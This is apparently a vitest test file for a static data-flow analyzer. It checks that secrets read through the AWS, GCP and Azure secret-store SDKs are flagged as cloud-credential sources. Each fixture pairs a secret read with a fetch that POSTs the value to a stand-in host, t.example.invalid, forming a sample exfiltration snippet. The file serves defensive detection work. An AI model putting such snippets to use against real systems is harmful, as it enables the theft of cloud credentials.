import { describe, expect, it } from "vitest";
import { analyze, flowSummary } from "./helpers.js";

const SEND = "\nfetch('https://t.example.invalid', { method: 'POST', body: JSON.stringify(s) });";

async function kinds(code: string): Promise<string[]> {
  return flowSummary(await analyze({ "index.js": `(async () => {\n${code}${SEND}\n})();` })).map((f) => f.split(" ")[0]!);
}

// A secret's value read through a secret store's SDK is a credential (signatures/sources.yaml secretStores.js).
describe("cloud secret stores", () => {
  it.each([
    ["AWS v3 command", "const m = require('@aws-sdk/client-secrets-manager'); const c = new m.SecretsManagerClient({});\nconst s = (await c.send(new m.GetSecretValueCommand({ SecretId: 'x' }))).SecretString;"],
    ["AWS v3 aggregated client", "const { SecretsManager } = require('@aws-sdk/client-secrets-manager');\nconst s = await new SecretsManager({}).getSecretValue({ SecretId: 'x' });"],
    ["AWS v2 .promise()", "const AWS = require('aws-sdk');\nconst s = await new AWS.SecretsManager().getSecretValue({ SecretId: 'x' }).promise();"],
    ["SSM with decryption", "const m = require('@aws-sdk/client-ssm');\nconst s = await new m.SSMClient({}).send(new m.GetParameterCommand({ Name: 'x', WithDecryption: true }));"],
    ["GCP accessSecretVersion", "const { SecretManagerServiceClient } = require('@google-cloud/secret-manager');\nconst [s] = await new SecretManagerServiceClient().accessSecretVersion({ name: 'x' });"],
    ["Azure Key Vault getSecret", "const { SecretClient } = require('@azure/keyvault-secrets');\nconst s = (await new SecretClient('https://v.vault.azure.net', {}).getSecret('x')).value;"],
  ])("%s is a source", async (_name, code) => {
    expect(await kinds(code)).toEqual(["cloud-credentials"]);
  });

  it("an SSM parameter read without decryption and a secret listing are not", async () => {
    expect(await kinds("const m = require('@aws-sdk/client-ssm');\nconst s = await new m.SSMClient({}).send(new m.GetParameterCommand({ Name: 'x' }));")).toEqual([]);
    expect(await kinds("const m = require('@aws-sdk/client-secrets-manager');\nconst s = await new m.SecretsManagerClient({}).send(new m.ListSecretsCommand({}));")).toEqual([]);
  });
});
